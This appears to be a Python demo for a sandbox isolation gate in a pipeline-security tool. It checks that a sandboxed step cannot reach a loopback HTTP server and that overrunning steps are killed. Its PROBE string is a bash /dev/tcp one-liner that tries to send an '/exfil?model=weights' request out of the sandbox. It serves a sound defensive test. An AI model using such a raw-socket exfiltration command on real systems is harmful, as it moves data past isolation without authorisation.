"""Isolation demo: a step tries to send data to an HTTP server outside its sandbox, and cannot.

The server listens on this machine's loopback and answers the demo itself;
from inside the sandbox (its own network namespace) the same address leads
nowhere. The step prints BLOCKED and succeeds when the connection fails, and
fails when it gets through, so the verdict is ``pass`` only if isolation held
and the server received nothing. The second step outlives its deadline and is
killed with its children: ``fail``.
"""

from __future__ import annotations

import http.server
import threading
import urllib.request
from pathlib import Path

from kfp_gates.components.common.policy import GatePolicy
from kfp_gates.components.common.result import Finding, GateResult
from kfp_gates.components.common.severity import Decision, Severity

from ..demo import DemoStep

PROBE = (
    "if {{ exec 3<>/dev/tcp/127.0.0.1/{port}; }} 2>/dev/null; then "
    "printf 'GET /exfil?model=weights HTTP/1.0\\r\\n\\r\\n' >&3; cat <&3; echo REACHED; exit 1; "
    "else echo BLOCKED; fi"
)


def _server() -> tuple[http.server.ThreadingHTTPServer, list[str]]:
    hits: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            hits.append(self.path)
            self.send_response(200)
            self.end_headers()
            self.wfile.write(b"received\n")

        def log_message(self, *args: object) -> None:
            pass

    srv = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=srv.serve_forever, daemon=True).start()
    return srv, hits


def _exfiltration(policy: GatePolicy, tmp: Path) -> GateResult:
    from kfp_gates.components.isolation.gate import build_env, launch
    from kfp_gates.components.isolation.interface import StepSpec

    srv, hits = _server()
    try:
        port = srv.server_address[1]
        urllib.request.urlopen(f"http://127.0.0.1:{port}/from-outside", timeout=5).read()
        step = StepSpec(argv=("bash", "-c", PROBE.format(port=port)), env=build_env([]), timeout=30)
        result, _ = launch(policy, step)
        inside = [h for h in hits if h != "/from-outside"]
        print(f"   server reachable outside: yes; requests from inside the sandbox: {len(inside)}")
    finally:
        srv.shutdown()
        srv.server_close()
    if inside:  # belt and braces: the server saw the step, whatever it printed
        leak = Finding(id="KFPG-ISO-DEMO-LEAK", severity=Severity.CRITICAL, message=f"server received {inside}")
        result = result.model_copy(update={"decision": Decision.FAIL, "findings": (*result.findings, leak)})
    return result


def _deadline(policy: GatePolicy, tmp: Path) -> GateResult:
    from kfp_gates.components.isolation.gate import build_env, launch
    from kfp_gates.components.isolation.interface import StepSpec

    step = StepSpec(argv=("sh", "-c", "sleep 30 & sleep 30"), env=build_env([]), timeout=1)
    result, _ = launch(policy, step)
    return result


STEPS: list[DemoStep] = [
    DemoStep(
        title="isolation: step tries to reach an HTTP server on the host's loopback (exfiltration)",
        gate="isolation",
        run=_exfiltration,
        expect="pass",
    ),
    DemoStep(title="isolation: step outlives its 1 s deadline", gate="isolation", run=_deadline, expect="fail"),
]
